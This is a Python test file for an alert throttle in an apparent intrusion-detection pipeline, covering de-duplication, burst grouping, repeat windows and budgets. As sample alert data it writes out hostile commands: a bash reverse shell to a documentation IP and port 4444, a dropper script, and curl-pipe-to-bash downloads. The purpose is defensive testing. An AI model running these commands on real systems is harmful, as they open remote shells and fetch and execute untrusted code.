"""The alert throttle, pure: de-duplication, grouping of bursts, follow-up windows, budgets."""

from __future__ import annotations

from typing import Any

from ruleless.settings import AlertRoute, AlertSettings
from schemas.events import ScoredEvent, decode_notification, encode
from sinks.throttle import EVENT_IDS_SHOWN, HOSTS_SHOWN, Throttle, behaviour_of

T0 = 1_767_225_600.0


def alert(i: int, host: str = "web-1", cmdline: str = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", **fields: Any) -> ScoredEvent:
    base: dict[str, Any] = dict(
        event_id=f"ev-{i}", ts=T0 + i, org_id="acme", workload="web", host=host, pid=1000 + i,
        process_name="bash", parent_process="nginx", cmdline=cmdline, score=0.97, severity="alert",
    )
    base.update(fields)
    return ScoredEvent(**base)


def throttle(**route: Any) -> Throttle:
    defaults = {"group_wait_s": 5.0, "window_s": 60.0, "max_per_window": 20}
    return Throttle(AlertSettings(default=AlertRoute(**{**defaults, **route})))


def test_the_same_behaviour_on_500_hosts_is_one_notification_with_a_count() -> None:
    t = throttle()
    for i in range(500):
        # Volatile parts differ per host (pid, temp dir, peer IP) but the behaviour is one.
        cmd = f"python3 /tmp/tmp.Q{i}x9Zk2/drop.py --pid {4000 + i} --to 198.51.100.{i % 250}"
        assert t.add(alert(i, host=f"web-{i}", cmdline=cmd), (0, i), now=i * 0.001)
    assert t.due(now=4.9) == []
    (out,) = t.due(now=5.0)
    note = out.notification
    assert (note.kind, note.count, note.host_count) == ("new", 500, 500)
    assert len(note.hosts) == HOSTS_SHOWN and len(note.event_ids) == EVENT_IDS_SHOWN
    assert sorted(out.refs) == [(0, i) for i in range(500)]
    assert decode_notification(encode(note)) == note  # the webhook payload round-trips


def test_later_alerts_of_a_posted_behaviour_are_one_repeat_at_the_window_end() -> None:
    t = throttle()
    t.add(alert(0), (0, 0), now=0.0)
    (first,) = t.due(now=5.0)
    for i in range(1, 4):
        t.add(alert(i, host=f"web-{i}"), (0, i), now=10.0 + i)
    assert t.due(now=64.9) == []
    (repeat,) = t.due(now=65.0)
    assert (repeat.notification.kind, repeat.notification.count) == ("repeat", 3)
    assert repeat.notification.id != first.notification.id
    assert t.due(now=125.0) == [] and t.next_due() is None  # a quiet window ends the behaviour


def test_a_shard_over_its_budget_gets_one_digest() -> None:
    t = throttle(max_per_window=2)
    for i in range(5):
        t.add(alert(i, cmdline=f"{'abcde'[i]}tool --do-something"), (1, i), now=0.0)
    sent = t.due(now=5.0)
    assert [o.notification.kind for o in sent] == ["new", "new"]
    (digest,) = t.due(now=65.0)
    assert (digest.notification.kind, digest.notification.count, digest.notification.behaviours) == ("digest", 3, 3)
    assert sorted(r for o in sent + [digest] for r in o.refs) == [(1, i) for i in range(5)]


def test_duplicates_and_quiet_severities_are_dropped_per_route() -> None:
    settings = AlertSettings(
        default=AlertRoute(group_wait_s=0.0),
        routes={"acme/dev": AlertRoute(group_wait_s=0.0, min_severity="alert")},
    )
    t = Throttle(settings)
    assert t.add(alert(1), (0, 1), now=0.0)
    assert not t.add(alert(1), (0, 2), now=0.0)  # the worker delivered it twice
    assert not t.add(alert(2, workload="dev", severity="warn", score=0.75), (0, 3), now=0.0)
    assert t.add(alert(3, workload="dev"), (0, 4), now=0.0)
    assert sorted(o.notification.workload for o in t.due(now=0.0)) == ["dev", "web"]


def test_everything_held_goes_out_at_shutdown_and_revoked_alerts_can_come_back() -> None:
    t = throttle()
    t.add(alert(0), (0, 0), now=0.0)
    t.add(alert(1, cmdline="other"), (3, 0), now=0.0)
    assert t.drop_partitions([3]) == 1
    assert t.add(alert(1, cmdline="other"), (3, 0), now=1.0)  # re-read: not a duplicate
    assert sorted(o.notification.count for o in t.due(now=1.0, everything=True)) == [1, 1]
    assert t.held() == 0


def test_behaviour_ignores_volatile_values_but_not_the_command() -> None:
    a = behaviour_of(alert(0, cmdline="curl -s http://10.0.0.1/x.sh | bash"))
    b = behaviour_of(alert(1, cmdline="curl -s http://10.9.9.9/x.sh | bash", host="other"))
    c = behaviour_of(alert(2, cmdline="curl -s http://10.0.0.1/y.sh | bash"))
    assert a == b != c
